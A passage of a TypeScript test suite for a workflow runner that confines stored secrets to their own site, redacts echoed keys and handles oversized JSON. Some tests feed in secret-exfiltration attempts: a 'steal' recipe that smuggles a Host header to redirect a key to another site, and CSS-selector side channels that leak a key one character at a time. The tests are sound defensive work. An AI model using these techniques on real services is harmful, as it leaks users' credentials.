    const e = await runner
      .run(
        {
          engine: 'browser',
          hosts: [SITE_A, SITE_B],
          secrets: ['A_KEY', 'B_KEY'],
          steps: [
            { type: 'navigate', url: `http://${SITE_A}/later-b` },
            { type: 'fill', selector: '#q', value: '{{secrets.A_KEY}}' },
          ],
          output: { ok: true },
        },
        {},
        { ...ctx(), secrets, secretSites },
      )
      .then(
        () => null,
        (err: ServiceError) => err,
      );
    expect(leakedToB()).toEqual([]);
    expect(e).toBeInstanceOf(ServiceError);
    expect(e!.code).toBe('workflow_execution_failed');
    expect(e!.details).toMatchObject({ step: '1', host: SITE_B, reason: 'secret_not_for_host' });
  });

  // A browser step's literal selector questions the page: on a page of site A showing the key, whether
  // `[data-k^="k"]` is there (else the step fails when its time is up) tells its first character, and
  // the run going on to site B tells that to site B. A bit per run, like a condition's.
  const browserRun = (steps: Recipe['steps']) =>
    runner.run({ engine: 'browser', hosts: [SITE_A, SITE_B], secrets: ['A_KEY', 'B_KEY'], steps, output: { ok: true } }, {}, { ...ctx(), secrets, secretSites }).then(
      () => null,
      (e: ServiceError) => e,
    );
  const shown = `http://${SITE_A}/show?k={{secrets.A_KEY}}`;
  const questions: Array<[string, Recipe['steps'][number]]> = [
    ['a wait for a selector', { type: 'wait', selector: 'a[data-k^="k"]', state: 'attached', timeout_ms: 2_000 }],
    ['a click', { type: 'click', selector: 'a[data-k^="k"]' }],
  ];
  for (const [how, question] of questions) {
    it(`${how} on a page of site A showing its key is a decision on it: the run then never reaches site B`, async () => {
      received.length = 0;
      const e = await browserRun([{ type: 'navigate', url: shown }, question, { type: 'navigate', url: `http://${SITE_B}/b` }]);
      expect(e).toBeInstanceOf(ServiceError);
      expect(e!.code).toBe('workflow_execution_failed');
      expect(e!.details).toMatchObject({ step: '2', host: SITE_B, reason: 'secret_not_for_host' });
      expect(isFinalRefusal(e!)).toBe(true);
      expect(received.map((r) => r.host)).toEqual([SITE_A]);
    });
  }

  it('the same steps on a page of site A that shows no key go on to site B', async () => {
    received.length = 0;
    const e = await browserRun([
      { type: 'navigate', url: `http://${SITE_A}/show?k=nothing-secret` },
      { type: 'wait', selector: 'a[data-k^="n"]', state: 'attached', timeout_ms: 2_000 },
      { type: 'click', selector: 'a[data-k^="n"]' },
      { type: 'navigate', url: `http://${SITE_B}/b` },
    ]);
    expect(e).toBeNull();
    expect(received.map((r) => r.host)).toEqual([SITE_A, SITE_B]);
  });

  for (const [how, steps] of attempts) {
    it(`a key for site A is never sent to site B ${how}: refused before sending, final`, async () => {
      received.length = 0;
      const e = await run(steps);
      expect(e).toBeInstanceOf(ServiceError);
      expect(e!.code).toBe('workflow_execution_failed');
      expect(e!.details).toMatchObject({ host: SITE_B, reason: 'secret_not_for_host' });
      expect(isFinalRefusal(e!)).toBe(true);
      expect(JSON.stringify({ m: e!.message, d: e!.details })).not.toContain(A_KEY);
      expect(leakedToB()).toEqual([]);
      expect(received.filter((r) => r.host === SITE_B)).toEqual([]);
    });
  }
});

describe("a recipe never names the site its request goes to in a header", () => {
  // Sites on one CDN share its addresses; the CDN tells them apart by Host (and TLS's server name,
  // which undici takes from a Host header too). Here both sites are the one server, as on a CDN.
  const KEY = 'key-for-site-a-4';
  const steal = (headers: Record<string, string>): Recipe => ({
    engine: 'http',
    hosts: [SITE_A],
    secrets: ['KEY'],
    steps: [{ type: 'request', url: `http://${SITE_A}/a`, headers: { ...headers, 'x-api-key': '{{secrets.KEY}}' }, parse: 'json', save_as: 'a' }],
    output: { ok: true },
  });
  const runCtx = (): RunContext => ({ ...ctx(), secrets: { KEY }, secretSites: { KEY: SITE_A } });

  it('a recipe setting Host is refused when it is validated, naming the header', async () => {
    received.length = 0;
    const e = await runner.run(steal({ Host: SITE_B }), {}, runCtx()).then(
      () => null,
      (err: ServiceError) => err,
    );
    expect(e?.code).toBe('internal_error');
    expect((e?.details as { issues: Array<{ path: string }> }).issues.map((i) => i.path)).toEqual(['steps[0].headers.Host']);
    expect(received).toEqual([]);
  });

  // A version stored before the rule reaches the engine unvalidated by it: the engine refuses it too.
  const reserved = ['Host', 'host', 'Connection', 'Transfer-Encoding', 'TE', 'Trailer', 'Upgrade', 'Keep-Alive', 'Content-Length', 'Expect', 'Proxy-Authorization'];
  for (const name of reserved) {
    it(`a stored recipe sending ${name} is refused before anything is sent, final`, async () => {
      received.length = 0;
      const recipe = steal({ [name]: name.toLowerCase() === 'host' ? SITE_B : name.toLowerCase() === 'content-length' ? '0' : 'x' });
      const signal = AbortSignal.timeout(30_000);
      const dispatcher = createHttpDispatcher({ hostMap });
      const driver = new HttpDriver(dispatcher, makeUrlCheck(recipe.hosts));
      const e = await new Interpreter(recipe, driver, {}, { ...runCtx(), signal }, signal)
        .run()
        .then(
          () => null,
          (err: ServiceError) => err,
        )
        .finally(() => dispatcher.close());
      expect(e).toBeInstanceOf(ServiceError);
      expect(e!.code).toBe('workflow_execution_failed');
      expect(e!.details).toEqual({ step: '0', header: name.toLowerCase(), reason: 'header_not_allowed' });
      expect(isFinalRefusal(e!)).toBe(true);
      expect(received).toEqual([]);
    });
  }
});

describe('a secret a website echoes back never reaches the caller', () => {
  it('is redacted from the output when the site upper-cased it or put it inside a base64 credential', async () => {
    const KEY = 'p@ss-word-for-a';
    const out = await runner.run(
      {
        engine: 'http',
        hosts: [SITE_A],
        secrets: ['KEY'],
        steps: [{ type: 'request', url: `http://${SITE_A}/echo-loud`, headers: { 'x-api-key': '{{secrets.KEY}}' }, parse: 'json', save_as: 'a' }],
        output: { upper: '{{vars.a.upper}}', basic: '{{vars.a.basic}}' },
      },
      {},
      { ...ctx(), secrets: { KEY }, secretSites: { KEY: SITE_A } },
    );
    const r = redact(out, [KEY]) as { upper: string; basic: string };
    expect(r.upper).toBe('KEY: [redacted]');
    // "caller:" is 7 bytes: the key starts one byte into a base64 group, and still its part of the base64 is found.
    const b64 = Buffer.from(`caller:${KEY}`).toString('base64');
    expect(r.basic).toMatch(/^Basic [A-Za-z0-9+/]*\[redacted\][A-Za-z0-9+/=]*$/);
    expect(r.basic).not.toContain(b64.slice(12, -4));
  });

  it('is redacted from the output however the site spelled it (query string, HTML, JSON text, base64)', async () => {
    const KEY = `p@ss'word!(1) "<x>"`;
    const out = await runner.run(
      {
        engine: 'http',
        hosts: [SITE_A],
        secrets: ['KEY'],
        steps: [{ type: 'request', url: `http://${SITE_A}/echo`, headers: { 'x-api-key': '{{secrets.KEY}}' }, parse: 'json', save_as: 'a' }],
        output: { next: '{{vars.a.next}}', form: '{{vars.a.form}}', text: '{{vars.a.text}}', token: '{{vars.a.token}}' },
      },
      {},
      { ...ctx(), secrets: { KEY }, secretSites: { KEY: SITE_A } },
    );
    // What the execute activity (and a builder test run) returns: the output through redact.
    expect(redact(out, [KEY])).toEqual({
      next: `http://${SITE_A}/items?page=2&api_key=[redacted]`,
      form: '<input name="key" value="[redacted]">',
      text: '{"key":"[redacted]"}',
      token: '[redacted]',
    });
  });
});

describe('a broken answer is the website\'s failure, never ours', () => {
  it('a document nested 20,000 deep passes redaction (the execute activity then reports output_too_large, not internal_error)', async () => {
    const out = await runner.run(
      {
        engine: 'http',
        hosts: [SITE_A],
        secrets: ['KEY'],
        steps: [{ type: 'request', url: `http://${SITE_A}/deep-json`, headers: { 'x-api-key': '{{secrets.KEY}}' }, parse: 'json', save_as: 'a' }],
        output: { list: '{{vars.a.list}}' },
      },
      {},
      { ...ctx(), secrets: { KEY: 'key_for_site_a_3' }, secretSites: { KEY: SITE_A } },
    );
    const redacted = redact(out, ['key_for_site_a_3']);
    let depth = 0;
    for (let v = (redacted as { list: unknown }).list; Array.isArray(v); v = v[0]) depth++;
    expect(depth).toBe(20_000);
    // what execute's size check sees: a value JSON cannot even write is too large to carry
    expect(() => JSON.stringify(redacted)).toThrow(RangeError);
  });

  it('a document nested 20,000 deep read as a text field is upstream_http_error (document_too_complex), not internal_error', async () => {
    const { error } = await timed({
      engine: 'http',
      hosts: [SITE_A],
      steps: [
        { type: 'request', url: `http://${SITE_A}/deep-json`, parse: 'json', save_as: 'a' },
        { type: 'extract', from: { var: 'a' }, fields: { t: { type: 'text', pointer: '/list' } }, save_as: 'p' },
      ],
      output: '{{vars.p.t}}',
    });
    expect(error?.code).toBe('upstream_http_error');
    expect(error?.details).toEqual({ reason: 'document_too_complex', step: '1' });
  });

  it("a site's JSON list of two million items is read in a run with a connection (looking for the secret in it never spreads it into arguments)", async () => {
    const out = await runner.run(
      {
        engine: 'http',
        hosts: [SITE_A],
        secrets: ['KEY'],
        steps: [
          { type: 'request', url: `http://${SITE_A}/many`, headers: { 'x-api-key': '{{secrets.KEY}}' }, parse: 'json', save_as: 'm' },
          { type: 'extract', from: { var: 'm' }, fields: { n: { type: 'count' } }, save_as: 'c' },
        ],
        output: '{{vars.c.n}}',
      },
      {},
      { ...ctx(), secrets: { KEY: 'key_for_site_a_3' }, secretSites: { KEY: SITE_A } },
    );
    expect(out).toBe(2_000_001);
  });

  // Lists are appended item by item: a spread of 130,000 or more is past the arguments limit.
  for (const cumulative of [false, true]) {
    it(`a pagination collecting a page of 200,000 items keeps its limit's worth${cumulative ? ' (cumulative)' : ''}, not internal_error`, async () => {
      const { result, error } = await timed({
        engine: 'http',
        hosts: [HOST],
        steps: [
          {
            type: 'paginate',
            steps: [{ type: 'request', url: `http://${HOST}/long-list`, parse: 'json', save_as: 'page' }],
            collect: 'page',
            save_as: 'all',
            limit: 10_000,
            ...(cumulative ? { cumulative } : {}),
            next: { kind: 'counter' },
          },
        ],
        output: { n: '{{vars.all.length}}' },
      });
      expect(error).toBeUndefined();
      expect(result).toEqual({ n: 10_000 });
    });
  }

  // JSON.parse reads JSON nested 20,000 deep; JSON.stringify cannot write it. A recipe writing it
  // into text, a JSON body or a query fails on that value, in the step that writes it.
  const writes: Array<[string, Recipe['steps'][number]]> = [
    ['into a string', { type: 'set', var: 's', value: 'list: {{vars.d.list}}' }],
    ['as a JSON body', { type: 'request', method: 'POST', url: `http://${HOST}/b`, json: { list: '{{vars.d.list}}' }, save_as: 'b' }],
    ['into a query', { type: 'request', url: `http://${HOST}/b`, query: { list: '{{vars.d.list}}' }, save_as: 'b' }],
    ['into a form', { type: 'request', method: 'POST', url: `http://${HOST}/b`, form: { list: '{{vars.d.list}}' }, save_as: 'b' }],
  ];
  for (const [how, write] of writes) {
    it(`a document nested 20,000 deep written ${how} is value_too_large in that step, not internal_error`, async () => {
      received.length = 0;
      const { error } = await timed({
        engine: 'http',
        hosts: [HOST],
        steps: [{ type: 'request', url: `http://${HOST}/deep-json`, parse: 'json', save_as: 'd' }, write],
        output: null,
      });
      expect(error?.code).toBe('workflow_execution_failed');
      expect(error?.details).toEqual({ step: '1', reason: 'value_too_large' });
      expect(received.map((r) => r.text.split(' ')[0])).toEqual(['/deep-json']);
    });
  }

  it("a pagination's own stop condition that cannot write its value names the pagination, not its last inner step", async () => {
    const { error } = await timed({
      engine: 'http',
      hosts: [HOST],
      steps: [
        { type: 'request', url: `http://${HOST}/deep-json`, parse: 'json', save_as: 'd' },
        {
          type: 'paginate',
          steps: [{ type: 'set', var: 'page', value: ['item'] }],
          collect: 'page',
          save_as: 'all',
          limit: 5,
          stop: { url_contains: 'x{{vars.d.list}}' },
          next: { kind: 'counter' },
        },
      ],
      output: null,
    });
    expect(error?.code).toBe('workflow_execution_failed');
    expect(error?.details).toEqual({ step: '1', reason: 'value_too_large' });
  });

  it('a redirect to a URL that cannot be parsed is upstream_http_error (invalid_redirect), not internal_error', async () => {
    const { error } = await timed({ engine: 'http', hosts: [HOST], steps: [{ type: 'request', url: `http://${HOST}/bad-redirect`, save_as: 'x' }], output: null });
    expect(error?.code).toBe('upstream_http_error');
    expect(error?.details).toEqual({ step: '0', host: HOST, reason: 'invalid_redirect' });
  });
});
